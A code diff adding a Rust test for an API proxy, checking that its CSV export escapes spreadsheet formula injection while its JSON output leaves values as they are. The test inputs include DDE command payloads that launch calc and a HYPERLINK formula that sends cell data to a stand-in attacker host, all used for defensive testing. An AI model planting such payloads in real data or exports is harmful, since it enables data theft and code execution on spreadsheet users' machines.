@@ -717,6 +717,77 @@ async fn queries_csv_matches_json() {
     assert_openai_error(&r, 400, "invalid_request_error", Some("format"), None);
 }
 
+/// CSV formula injection (hardening 12): text fields (user, models,
+/// endpoint, request id) starting with `=`, `+`, `-`, `@`, tab or carriage
+/// return are exported with a leading `'` (OWASP), so a spreadsheet shows
+/// them as text instead of evaluating them; JSON keeps them as they are.
+#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
+async fn queries_csv_never_starts_a_field_with_a_formula() {
+    let mock = Mock::start(|seen| {
+        let model = seen.json()["model"].as_str().unwrap().to_owned();
+        Reply::json(completion(&model, "ok", Tok::new(7, 3))).header("x-request-id", "=1+1")
+    })
+    .await;
+    let dir = tempfile::tempdir().unwrap();
+    let db = dir.path().join("t.db");
+    // Values no live request can carry (control characters) are seeded.
+    let seed = |user: &str, model: &str| Seed {
+        ts: JAN30,
+        user: user.into(),
+        model: model.into(),
+        query: 1,
+        answer: 2,
+        cached: 0,
+        reasoning: 0,
+        cost: 1_000,
+        priced: true,
+    };
+    let seeds = [
+        seed("@SUM(1+1)*cmd|' /C calc'!A0", "-2+3+cmd|' /C calc'!A0"),
+        seed("\t=1+2", "\r=1+2"),
+        seed("-1", "@m"),
+        seed("safe'user", "gpt-4o"),
+    ];
+    seed_db(&mock.url(), &db, &seeds).await;
+    let p = Proxy::builder(&mock.url()).db(&db).start().await;
+    let user = r#"=HYPERLINK("http://evil.example/?"&A1,"click")"#;
+    let model = "+cmd|' /C calc'!A0";
+    assert_eq!(p.chat(user, &chat_body(model, false)).await.status, 200);
+    let json = p.queries_raw("").await;
+    assert_eq!(json.len(), 5);
+    assert_eq!(unquote(&json[4]["user"]), user, "JSON keeps the value");
+    assert_eq!(unquote(&json[4]["model"]), model);
+    let text = p.get("/queries?format=csv").await.text();
+    let rows = parse_csv(&text);
+    assert_eq!(rows.len(), 6);
+    let names = rows[0].clone();
+    let risky = |s: &str| s.starts_with(['=', '+', '-', '@', '\t', '\r']);
+    let mut neutralised = 0;
+    for (row, j) in rows[1..].iter().zip(&json) {
+        for (name, field) in names.iter().zip(row) {
+            assert!(!risky(field), "{name} starts a formula: {field:?}");
+            let raw = &j[name.as_str()];
+            if !raw.starts_with('"') {
+                continue;
+            }
+            let v = unquote(raw);
+            if risky(&v) {
+                assert_eq!(field, &format!("'{v}"), "{name}");
+                neutralised += 1;
+            } else {
+                assert_eq!(field, &v, "{name}: other values are unchanged");
+            }
+        }
+    }
+    // users, models and requested models of the risky records, and the live
+    // record's request id.
+    assert_eq!(neutralised, 3 * 3 + 3 + 1);
+    assert!(
+        text.contains(r#"'=HYPERLINK(""http://evil.example/?""&A1,""click"")""#),
+        "{text}"
+    );
+}
+
 /// `--retain-days 1`: records older than a day leave `/queries` (in
 /// batches, over several thousand), newer ones stay, and `/usage` over all
 /// time, per day and per month is unchanged: the rollups are kept.
